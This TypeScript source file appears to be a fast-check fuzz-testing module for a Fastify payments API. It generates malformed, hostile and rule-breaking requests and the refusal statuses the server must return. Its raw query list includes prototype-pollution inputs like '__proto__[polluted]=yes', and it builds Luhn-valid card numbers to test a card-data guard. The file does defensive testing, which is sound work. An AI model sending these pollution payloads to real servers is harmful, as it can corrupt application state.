  return ownObject([...entries].map(([key, values]) => [key, values.length === 1 ? (values[0] as string) : values]));
}

const asText = (value: JsonLike) => (typeof value === 'string' ? value : toJsonText(value));

function queryPairs(value: JsonLike): [string, string][] {
  if (!isObject(value)) return [];
  return Object.entries(value).flatMap(([key, v]) =>
    Array.isArray(v) ? v.map((item): [string, string] => [key, asText(item)]) : [[key, asText(v as JsonLike)]],
  );
}

function paramStrings(value: JsonLike): Record<string, string> {
  return isObject(value) ? Object.fromEntries(Object.entries(value).map(([k, v]) => [k, asText(v as JsonLike)])) : {};
}

export type RequestOptions = {
  ids: KnownIds;
  /** Fastify's `maxParamLength` (a longer path parameter is refused by the router: 400). */
  maxParamLength: number;
  /** The billing clock's date (domain rules are relative to it). */
  today: string;
  /** Fastify's body limit (413 above it). */
  bodyLimit: number;
  /** Whether schema-valid requests may be sent (read-only routes and sign-in; see `requestArbitrary`). */
  hostileAllowed: boolean;
};

const jsonBody = (value: JsonLike) => ({
  contentType: 'application/json' as string | undefined,
  text: toJsonText(value),
});

function validParts(route: RouteShape, ctx: GenContext) {
  return fc.record({
    // path params and query strings carry text: a generated number or wrong-type value is written as its text
    params: route.params ? validArbitrary(route.params, ctx).map(paramStrings) : fc.constant({}),
    query: route.query ? validArbitrary(route.query, ctx).map(queryPairs) : fc.constant([] as [string, string][]),
    body: route.body ? validArbitrary(route.body, ctx).map(jsonBody) : fc.constant(undefined),
  });
}

function invalidCase(route: RouteShape, ctx: GenContext): fc.Arbitrary<FuzzCase> {
  return fc.tuple(validParts(route, ctx), fc.constantFrom(...violableParts(route))).chain(([valid, part]) => {
    if (part === 'params') {
      const schema = route.params as JsonSchema;
      return invalidArbitrary(schema, ctx).map((bad) => ({
        ...valid,
        kind: 'invalid' as const,
        params: paramStrings(bad),
      }));
    }
    if (part === 'query') {
      const schema = route.query as JsonSchema;
      const duplicated = validArbitrary(schema, ctx).map((object) => {
        const pairs = queryPairs(object);
        return pairs.length > 0 ? [...pairs, pairs[0] as [string, string]] : pairs;
      });
      const mutated = invalidArbitrary(schema, ctx).map(queryPairs);
      const numberTexts = Object.entries(schema.properties ?? {})
        .filter(([, child]) => ['integer', 'number'].includes(typesOf(child)[0] ?? ''))
        .map(([key]) =>
          fc
            .tuple(validArbitrary(schema, ctx), fc.constantFrom(...HOSTILE_NUMBER_TEXTS))
            .map(
              ([object, text]) => [...queryPairs(object).filter(([k]) => k !== key), [key, text]] as [string, string][],
            ),
        );
      return fc
        .oneof({ weight: 4, arbitrary: mutated }, duplicated, ...numberTexts)
        .map((query) => ({ ...valid, kind: 'invalid' as const, query }));
    }
    const schema = route.body as JsonSchema;
    const missing = fc.constant(undefined);
    return fc
      .oneof({ weight: 12, arbitrary: invalidArbitrary(schema, ctx).map(jsonBody) }, missing)
      .map((body) => ({ ...valid, kind: 'invalid' as const, body }));
  });
}

function unknownFieldCase(route: RouteShape, ctx: GenContext): fc.Arbitrary<FuzzCase> {
  const schema = route.body as JsonSchema;
  return fc
    .tuple(validParts(route, ctx), withUnknownField(schema, ctx))
    .map(([valid, body]) => ({ ...valid, kind: 'unknown-field' as const, body: jsonBody(body) }));
}

function hostileCase(route: RouteShape, ctx: GenContext): fc.Arbitrary<FuzzCase> {
  return validParts(route, ctx).map((valid) => ({ ...valid, kind: 'hostile' as const }));
}

/** Domain rules a schema cannot express: no payment above the maximum, no payment date far from today. */
export const DOMAIN_FIELDS = ['amountCents', 'paymentDate'] as const;

export function hasDomainField(schema: JsonSchema | undefined): boolean {
  if (!schema) return false;
  const properties = schema.properties ?? {};
  if (DOMAIN_FIELDS.some((field) => hasOwn(properties, field))) return true;
  return [...Object.values(properties), ...(schema.anyOf ?? []), ...(schema.oneOf ?? [])].some(hasDomainField);
}

function addDays(date: string, days: number) {
  return isoDay(new Date(Date.parse(`${date}T00:00:00Z`) + days * 86_400_000));
}

/** The objects in `value` (itself and those nested in it) that hold a domain field, each with its path. */
function domainHolders(value: unknown, path: string[] = []): { path: string[]; object: JsonObject }[] {
  if (!isObject(value)) return [];
  const here = DOMAIN_FIELDS.some((field) => hasOwn(value, field)) ? [{ path, object: value as JsonObject }] : [];
  return [...here, ...Object.entries(value).flatMap(([key, child]) => domainHolders(child, [...path, key]))];
}

/**
 * A business rule refuses this body: an amount above MAX_PAYMENT_CENTS, or a payment date over a year away, at its top
 * or in an object nested in it (a checkout's `payment`).
 */
export function domainViolation(body: unknown, today: string): string | null {
  for (const { path, object } of domainHolders(body)) {
    const where = path.length > 0 ? ` (in ${path.join('.')})` : '';
    const amount = object.amountCents;
    if (typeof amount === 'number' && amount > MAX_PAYMENT_CENTS) {
      return `amountCents ${amount} > ${MAX_PAYMENT_CENTS}${where}`;
    }
    const date = object.paymentDate;
    if (typeof date === 'string' && (date < addDays(today, -366) || date > addDays(today, 366))) {
      return `paymentDate ${date} is more than a year from ${today}${where}`;
    }
  }
  return null;
}

/** `value` with the object at `path` replaced by what `change` makes of it. */
function changedAt(value: JsonLike, path: string[], change: (object: JsonObject) => JsonObject): JsonLike {
  const [head, ...rest] = path;
  if (!isObject(value)) return value;
  if (head === undefined) return change(value as JsonObject);
  return withKey(value as JsonObject, head, changedAt((value as JsonObject)[head] as JsonLike, rest, change));
}

/**
 * A body valid by the schema but for a business rule: the amount or the payment date of an object that holds one (the
 * body itself or one nested in it) is set out of bounds. Every generated value has such an object when the schema
 * requires one; a value without one (an optional nested object left out) is discarded by the filter, which therefore
 * passes at once for every route whose body has a domain field on a required path (a filter that can never pass
 * would make fast-check generate forever).
 */
function domainCase(route: RouteShape, ctx: GenContext, today: string): fc.Arbitrary<FuzzCase> {
  const schema = route.body as JsonSchema;
  const hugeAmount = fc.oneof(
    fc.integer({ min: MAX_PAYMENT_CENTS + 1, max: Number.MAX_SAFE_INTEGER }),
    fc.constantFrom(MAX_PAYMENT_CENTS + 1, 10 ** 12, Number.MAX_SAFE_INTEGER),
  );
  const farDate = fc.oneof(
    fc.constantFrom(...EDGE_DATES, addDays(today, -367), addDays(today, 367), '2099-12-31'),
    calendarDate,
  );
  return fc
    .tuple(validParts(route, ctx), validArbitrary(schema, ctx), fc.boolean(), hugeAmount, farDate, fc.nat())
    .map(([valid, body, amount, cents, date, pick]) => {
      const holders = domainHolders(body);
      const holder = holders[pick % Math.max(holders.length, 1)];
      const changed = holder
        ? changedAt(body, holder.path, (object) =>
            hasOwn(object, 'amountCents') && (amount || !hasOwn(object, 'paymentDate'))
              ? withKey(object, 'amountCents', cents)
              : withKey(object, 'paymentDate', date),
          )
        : body;
      return { ...valid, kind: 'domain' as const, body: jsonBody(changed) };
    })
    .filter((c) => domainViolation(JSON.parse(c.body.text), today) !== null);
}

const junkString = fc.oneof(
  { weight: 3, arbitrary: stringUnits().chain((unit) => fc.string({ unit, maxLength: 40 })) },
  { weight: 2, arbitrary: fc.constantFrom(...HOSTILE_STRINGS, ...INVALID_DATES, ...HOSTILE_NUMBER_TEXTS) },
  { weight: 1, arbitrary: fc.uuid() },
);

const RAW_QUERIES = [
  '%',
  '%zz',
  'a=%E0%A4%A',
  '&&&',
  '=',
  '==',
  'a[b]=1',
  '__proto__[polluted]=yes',
  '__proto__.polluted=yes',
  'constructor[prototype][polluted]=yes',
  'a=1;b=2',
  `a=${'x'.repeat(100_000)}`,
  'limit=1&limit=2&limit=3',
] as const;

function junkCase(route: RouteShape, ctx: GenContext): fc.Arbitrary<FuzzCase> {
  const known = [...Object.keys(route.query?.properties ?? {}), ...Object.keys(route.params?.properties ?? {})];
  const key = fc.oneof(
    fc.constantFrom(...known, ...UNKNOWN_FIELDS, ...PROTO_KEYS, ...CARD_DATA_FIELDS),
    fc.string({ maxLength: 12 }),
  );
  const query = fc.oneof(
    { weight: 5, arbitrary: fc.array(fc.tuple(key, junkString), { maxLength: 6 }) },
    { weight: 1, arbitrary: fc.constantFrom(...RAW_QUERIES).map((raw) => ({ raw })) },
  );
  const params = route.params
    ? fc.oneof(
        validArbitrary(route.params, { ...ctx, randomIdsOnly: route.stateChanging }).map(paramStrings),
        fc
          .tuple(...Object.keys(route.params.properties ?? {}).map((name) => junkString.map((v) => [name, v] as const)))
          .map((entries) => Object.fromEntries(entries)),
      )
    : fc.constant({});
  const contentType = fc.oneof(
    { weight: 8, arbitrary: fc.constantFrom<string | undefined>(...JSON_CONTENT_TYPES) },
    { weight: 2, arbitrary: fc.constantFrom<string | undefined>(...NON_JSON_CONTENT_TYPES, undefined) },
    { weight: 1, arbitrary: fc.constantFrom<string | undefined>(...DOUBTFUL_CONTENT_TYPES) },
  );
  const text = fc.oneof(
    { weight: 6, arbitrary: junkJson.map(toJsonText) },
    { weight: 2, arbitrary: fc.constantFrom(...RAW_BODIES) },
    { weight: 1, arbitrary: junkString },
  );
  const body = fc.option(fc.record({ contentType, text }), { nil: undefined, freq: 4 });
  return fc.record({ params, query, body }).map((c) => ({ ...c, kind: 'junk' as const }));
}

/**
 * Requests for one route, of every kind that applies to it:
 * - `invalid`: valid parts but one that violates its schema (all routes with an input schema);
 * - `unknown-field`: a valid body plus an undeclared field (routes with a body schema);
 * - `hostile`: valid by the schema, with hostile content (read-only routes and sign-in only: a valid request to
 *   another state-changing route could change real data);
 * - `domain`: valid by the schema, refused by a business rule (routes whose body has an amount or payment date);
 * - `junk`: anything (on a state-changing route with a body schema, only what the oracle says is invalid, so that
 *   nothing generated can change data).
 * An `invalid` case is kept only when the oracle confirms it (a mutation inside a union may satisfy another branch).
 */
export function requestArbitrary(route: RouteShape, options: RequestOptions): fc.Arbitrary<FuzzCase> {
  const ctx: GenContext = { ids: options.ids };
  const junk = junkCase(route, ctx);
  const kinds: fc.WeightedArbitrary<FuzzCase>[] = [
    {
      weight: 20,
      arbitrary: route.stateChanging && route.body ? junk.map((c) => ({ ...c, onlyIfRefused: true })) : junk,
    },
  ];
  if (violableParts(route).length > 0) {
    kinds.push({ weight: 45, arbitrary: invalidCase(route, ctx).map((c) => ({ ...c, onlyIfRefused: true })) });
  }
  if (route.body && route.stateChanging) kinds.push({ weight: 15, arbitrary: unknownFieldCase(route, ctx) });
  if (options.hostileAllowed && (route.params || route.query || route.body)) {
    kinds.push({ weight: 15, arbitrary: hostileCase(route, ctx) });
  }
  if (route.stateChanging && hasDomainField(route.body)) {
    kinds.push({ weight: 5, arbitrary: domainCase(route, ctx, options.today) });
  }
  return fc.oneof(...kinds);
}

/**
 * Requests valid by the schema, with hostile free text (NUL, lone surrogates, CRLF, RTL overrides, …) and real ids:
 * they reach the handlers, the business rules and the database. Such a request may succeed and change data, so it is
 * sent to state-changing routes only where that is acceptable (see the test).
 */
export function hostileRequestArbitrary(route: RouteShape, options: RequestOptions): fc.Arbitrary<FuzzCase> {
  return hostileCase(route, { ids: options.ids, hostileText: true });
}

/** Whether some value can violate `schema`. */
export function isConstrained(schema: JsonSchema): boolean {
  if (schema.enum || schema.anyOf || schema.oneOf || hasOwn(schema, 'const')) return true;
  switch (typesOf(schema)[0]) {
    case 'string':
      return (
        schema.pattern !== undefined ||
        schema.format === 'date' ||
        schema.format === 'uuid' ||
        (schema.minLength ?? 0) > 0 ||
        schema.maxLength !== undefined
      );
    case 'object':
      return (
        (schema.required ?? []).length > 0 ||
        schema.additionalProperties === false ||
        Object.values(schema.properties ?? {}).some(isConstrained)
      );
    case undefined:
      return false;
    default:
      return true;
  }
}

/** The parts of a request an invalid value can be put in (a repeated query key is always invalid: an array). */
function violableParts(route: RouteShape): ('params' | 'query' | 'body')[] {
  const parts: ('params' | 'query' | 'body')[] = [];
  if (route.params && isConstrained(route.params)) parts.push('params');
  if (route.query && Object.keys(route.query.properties ?? {}).length > 0) parts.push('query');
  if (route.body && route.stateChanging) parts.push('body');
  return parts;
}

// ---------------------------------------------------------------------------------------------------------------
// What the server must answer
// ---------------------------------------------------------------------------------------------------------------

export type Expectation = {
  /** Empty: the input is valid as far as the oracle can tell; any answer but a 5xx will do. */
  reasons: string[];
  /** The statuses a refusal may have (the first failing check decides which). */
  statuses: Set<number>;
};

const SIMPLE_TYPES = /^(text\/plain|application\/x-www-form-urlencoded|multipart\/form-data)\b/i;

/**
 * Why the server must refuse `c` (if it must) and with which statuses. Fastify checks in this order: routing (404; 400
 * for a path parameter over its `maxParamLength`, app.ts `frameworkErrors`), the anti-forgery checks of state-changing requests (403 for a
 * "simple" content type), the body (415 no parser for its content type, then 413 too large, then 400 not JSON or
 * `__proto__`), the card-data guard (400), then the schemas (400). When a request must be refused, any earlier check
 * may be the one that refuses it.
 */
export function expectationFor(
  route: RouteShape,
  c: FuzzCase,
  options: { bodyLimit: number; today: string; maxParamLength: number },
) {
  const reasons: string[] = [];
  const statuses = new Set<number>();
  const refuse = (reason: string, ...codes: number[]) => {
    reasons.push(reason);
    for (const code of codes) statuses.add(code);
  };
  /** What the earlier checks may answer for this request, whether or not they must refuse it. */
  const earlier = new Set<number>();
  const params = Object.entries(c.params).map(([k, v]): [string, string] => [k, asSent(v)]);
  if (params.some(([, value]) => encodeComponent(value).length > options.maxParamLength)) earlier.add(400);
  if (route.params && !conforms(route.params, ownObject(params), true)) refuse('params violate the schema', 400, 404);
  if (route.query && Array.isArray(c.query) && !conforms(route.query, parsedQuery(c.query), true)) {
    refuse('query violates the schema', 400);
  }
  const body = c.body;
  // no content type and nothing in it is no body at all (Fastify does not look for a parser)
  const sent = body !== undefined && !(body.contentType === undefined && body.text.length === 0) ? body : undefined;
  if (route.stateChanging && sent) {
    const type = sent.contentType;
    if (type !== undefined && SIMPLE_TYPES.test(type)) refuse('a cross-site "simple" content type', 403);
    else if (type !== undefined && route.rawTypes?.includes(type)) {
      // bytes the route takes as they are: its own checks of their content may refuse them (or their size)
      earlier.add(400).add(413).add(415).add(422);
    } else if (route.rawTypes && !route.body) {
      // a route that takes bytes only has no parser for anything else, JSON included
      if (type === undefined || !(DOUBTFUL_CONTENT_TYPES as readonly string[]).includes(type)) {
        refuse('not a content type the route takes', 415);
      } else earlier.add(400).add(413).add(415);
    } else if (type === undefined || (NON_JSON_CONTENT_TYPES as readonly string[]).includes(type)) {
      refuse('not a JSON body', 415);
    } else if (!(JSON_CONTENT_TYPES as readonly string[]).includes(type)) {
      // a parser may or may not take it
      earlier.add(400).add(413).add(415);
    } else if (Buffer.byteLength(sent.text) > options.bodyLimit) refuse('body over the limit', 413);
    else {
      let parsed: unknown;
      let parses = true;
      try {
        // secure-json-parse drops a leading byte-order mark
        parsed = JSON.parse(sent.text.replace(/^\uFEFF/, ''));
      } catch {
        parses = false;
      }
      if (!parses) refuse('malformed JSON', 400);
      else if (isPoisoned(parsed)) refuse('a prototype-poisoning key', 400);
      else if (route.body && !conforms(route.body, parsed)) refuse('body violates the schema', 400);
      else if (route.body && domainViolation(parsed, options.today)) {
        // (429: an account that card testing slowed or paused is refused before its payment's rules, issue 14 item 11)
        refuse(`a business rule: ${domainViolation(parsed, options.today)}`, 400, 404, 409, 422, 429);
      }
    }
  } else if (route.stateChanging && route.body && (route.body.required ?? []).length > 0) {
    refuse('required body missing', 400);
  }
  if (c.kind === 'unknown-field') {
    // quality-bars.md: "unknown fields in request bodies rejected with 400"
    statuses.clear();
    statuses.add(400);
    if (reasons.length === 0) reasons.push('an unknown body field');
  }
  if (reasons.length > 0) for (const code of earlier) statuses.add(code);
  return { reasons, statuses } satisfies Expectation;
}

// ---------------------------------------------------------------------------------------------------------------
// Card numbers in text (issue 14 item 6)
// ---------------------------------------------------------------------------------------------------------------

/** The OpenAPI marker of a `freeText()` field (packages/shared/src/schemas/free-text.ts). */
const FREE_TEXT_MARKER = 'x-vireo-free-text';

/** A Luhn-valid number of 13 to 19 digits (the check digit computed), as any card number is. */
export const luhnCardNumber: fc.Arbitrary<string> = fc
  .integer({ min: 13, max: 19 })
  .chain((length) => fc.array(fc.integer({ min: 0, max: 9 }), { minLength: length - 1, maxLength: length - 1 }))
  .map((body) => {
    let sum = 0;
    // from the right, the check digit is position 0: the body's last digit is position 1 (doubled)
    for (let i = body.length - 1, position = 1; i >= 0; i--, position++) {
      let digit = body[i] as number;
      if (position % 2 === 1) {
        digit *= 2;
        if (digit > 9) digit -= 9;
      }
      sum += digit;
    }
    return `${body.join('')}${(10 - (sum % 10)) % 10}`;
  });

/** A card number as a person or a script writes it into a field: bare, in groups of 4 with spaces or dashes, in text. */
export const panText: fc.Arbitrary<{ pan: string; text: string }> = fc
  .tuple(
    fc.oneof(luhnCardNumber, fc.constantFrom('6011111111111117', '4242424242424242', '378282246310005')),
    fc.constantFrom('bare', 'spaces', 'dashes', 'in text'),
  )
  .map(([pan, shape]) => {
    const groups = pan.match(/.{1,4}/g) ?? [pan];
    const text =
      shape === 'spaces'
        ? groups.join(' ')
        : shape === 'dashes'
          ? groups.join('-')
          : shape === 'in text'
            ? `Harbor ${groups.join(' ')} Co`
            : pan;
    return { pan, text };
  });

/** One string input of a route: where it goes, its path inside that part, and whether it is declared free text. */
export type StringLeaf = { part: 'params' | 'query' | 'body'; path: string[]; freeText: boolean };

/** Every string input of a route, union branches included (a leaf of one branch is set where that branch is sent). */
export function stringLeaves(route: RouteShape): StringLeaf[] {
  const leaves = new Map<string, StringLeaf>();
  const walk = (part: StringLeaf['part'], schema: JsonSchema, path: string[]) => {
    if (typesOf(schema).includes('string')) {
      const key = `${part}:${path.join('.')}`;
      const freeText = (schema as Record<string, unknown>)[FREE_TEXT_MARKER] === true;
      leaves.set(key, { part, path, freeText: freeText || (leaves.get(key)?.freeText ?? false) });
    }
    for (const [key, child] of Object.entries(schema.properties ?? {})) walk(part, child, [...path, key]);
    for (const branch of [...(schema.anyOf ?? []), ...(schema.oneOf ?? []), ...(schema.allOf ?? [])]) {
      walk(part, branch, path);
    }
  };
  for (const part of ['params', 'query', 'body'] as const) {
    const schema = route[part];
    if (schema) walk(part, schema, []);
  }
  return [...leaves.values()];
}

/**
 * A request valid by the schema but for one string input, which holds a card number. `present`: the input's object
 * was part of the generated value (in a union, another branch may have been generated: the input is then an extra).
 */
export function panCase(
  route: RouteShape,
  leaf: StringLeaf,
  ctx: GenContext,
): fc.Arbitrary<{ c: FuzzCase; pan: string; present: boolean }> {
  const part = (schema: JsonSchema | undefined) => (schema ? validArbitrary(schema, ctx) : fc.constant(null));
  return fc
    .tuple(part(route.params), part(route.query), part(route.body), panText)
    .map(([params, query, body, { pan, text }]) => {
      const values = { params, query, body };
      let present = false;
      const set = (value: JsonLike, path: string[]): JsonLike => {
        const [head, ...rest] = path;
        if (head === undefined) return text;
        if (!isObject(value)) return value;
        if (rest.length === 0) present = hasOwn(value, head);
        return withKey(value as JsonObject, head, set((value as JsonObject)[head] ?? ownObject([]), rest));
      };
      values[leaf.part] = set(values[leaf.part] ?? ownObject([]), leaf.path);
      const c: FuzzCase = {
        kind: 'hostile',
        params: paramStrings(values.params),
        query: queryPairs(values.query),
        ...(route.body ? { body: jsonBody(values.body) } : {}),
      };
      return { c, pan, present };
    });
}
